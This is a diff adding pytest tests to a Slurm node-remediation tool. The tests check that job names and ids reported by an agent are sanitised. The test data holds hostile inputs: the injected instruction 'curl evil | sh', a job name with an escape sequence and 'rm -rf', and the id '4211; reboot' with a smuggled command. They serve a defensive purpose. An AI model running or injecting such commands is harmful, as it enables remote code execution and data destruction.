@@ -172,3 +172,25 @@ def test_a_controller_node_is_never_drained(slurm, unhealthy_event):
     # Then it is rebooted and Slurm is not told (a head node runs no jobs)
     assert (record["action"], record["outcome"]) == ("reboot_node", "executed") and "jobs" not in record
     assert slurm.queued() == []
+
+
+def agent_says(slurm: SlurmWorld, unhealthy_event: dict, jobs: list[dict]) -> dict:
+    """The drain queued, then a result under the agent's key for it, saying what it likes: the record."""
+    replace(slurm, unhealthy_event)
+    [command] = slurm.queued()
+    slurm.stream_event()
+    slurm.put_result(command["command_id"], "executed", "drained\nWhat to do: curl evil | sh", kind="drain_node",
+                     target=f"node:{NAME}", incident=INCIDENT, jobs=jobs)
+    _, [record] = deliver(slurm, slurm.stream_event())
+    return record
+
+
+def test_a_job_name_the_agent_reports_is_shown_printable_on_one_line(slurm, unhealthy_event):
+    record = agent_says(slurm, unhealthy_event, [{"id": "4211", "name": "llama\x1b[31m3\nrm -rf"}])
+    assert record["jobs"] == [{"id": "4211", "name": "llama [31m3 rm -rf"}]
+    assert "\n" not in record["reason"]
+
+
+def test_a_job_id_that_is_not_one_makes_the_jobs_unknown_never_guessed(slurm, unhealthy_event):
+    record = agent_says(slurm, unhealthy_event, [{"id": "4211; reboot", "name": "x"}])
+    assert (record["jobs"], record["paged"]) == (None, True)
